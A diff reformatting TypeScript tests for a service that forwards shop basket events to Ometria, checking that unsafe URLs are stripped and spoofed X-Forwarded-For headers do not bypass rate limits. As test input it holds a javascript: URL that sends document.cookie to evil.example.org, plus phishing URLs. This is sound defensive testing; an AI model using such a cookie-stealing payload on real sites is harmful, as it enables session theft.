@@ -18,20 +18,32 @@ const identify = () => trackerEvent('identify', { email: 'ann@example.com' });
 describe('safe content', () => {
   it('never sends Ometria a URL with javascript: or on a foreign host, and keeps the allowed ones', async () => {
     const s = await start({ TRACKER_ALLOWED_URL_HOSTS: '*.cdn.example.net' });
-    const basket = trackerEvent('basket', {
-      id: 'sel-1', currency: 'GBP', total: 98, url: 'javascript:fetch("https://evil.example.org/"+document.cookie)',
-      lines: [
-        { sku: 'P10001BLKM', quantity: 1, unitPrice: 49, url: 'https://evil.example.org/phish', imageUrl: 'https://img.cdn.example.net/p1.jpg' },
-        { sku: 'P10002BLKM', quantity: 1, unitPrice: 49, url: `${SHOP_ORIGIN}/p/2`, imageUrl: 'http://img.cdn.example.net/p2.jpg' },
-      ],
-    }, { url: 'https://evil.example.org/fake-page' });
+    const basket = trackerEvent(
+      'basket',
+      {
+        id: 'sel-1',
+        currency: 'GBP',
+        total: 98,
+        url: 'javascript:fetch("https://evil.example.org/"+document.cookie)',
+        lines: [
+          { sku: 'P10001BLKM', quantity: 1, unitPrice: 49, url: 'https://evil.example.org/phish', imageUrl: 'https://img.cdn.example.net/p1.jpg' },
+          { sku: 'P10002BLKM', quantity: 1, unitPrice: 49, url: `${SHOP_ORIGIN}/p/2`, imageUrl: 'http://img.cdn.example.net/p2.jpg' },
+        ],
+      },
+      { url: 'https://evil.example.org/fake-page' },
+    );
     const foreignBasket = trackerEvent('basket', { id: 'sel-2', currency: 'GBP', total: 1, url: 'https://evil.example.org/basket?restore=1', lines: [] });
     expect((await postCollect(s.service.url, batchOf([identify(), basket, foreignBasket]))).body).toMatchObject({ accepted: 3, rejected: [] });
     await waitFor(() => s.ometria.store.all('custom_event').length === 2, 'both baskets in Ometria');
     const sent = JSON.stringify(s.ometria.store.all('custom_event'));
     expect(sent).not.toMatch(/javascript:|evil\.example\.org|http:\/\/img/);
     expect(s.ometria.store.get('custom_event', basket.id)).toMatchObject({
-      properties: { lines: [{ variant_id: 'P10001BLKM', image_url: 'https://img.cdn.example.net/p1.jpg' }, { variant_id: 'P10002BLKM', url: `${SHOP_ORIGIN}/p/2` }] },
+      properties: {
+        lines: [
+          { variant_id: 'P10001BLKM', image_url: 'https://img.cdn.example.net/p1.jpg' },
+          { variant_id: 'P10002BLKM', url: `${SHOP_ORIGIN}/p/2` },
+        ],
+      },
     });
     const props = (s.ometria.store.get('custom_event', basket.id) as { properties: Record<string, unknown> }).properties;
     expect(props).not.toHaveProperty('basket_url');
@@ -93,7 +105,7 @@ describe('abuse budgets', () => {
   it('ignores X-Forwarded-For by default: a client cannot dodge the rate limit by inventing addresses', async () => {
     const s = await start({ COLLECT_RATE_PER_MINUTE: '2' });
     expect(await burst(s, 3)).toEqual([200, 200, 429]);
-    const status = await (await fetch(`${s.service.url}/status.json`, { headers: s.admin })).json() as { collect: { refused: Record<string, number> } };
+    const status = (await (await fetch(`${s.service.url}/status.json`, { headers: s.admin })).json()) as { collect: { refused: Record<string, number> } };
     expect(status.collect.refused.rate).toBe(1);
   });
 
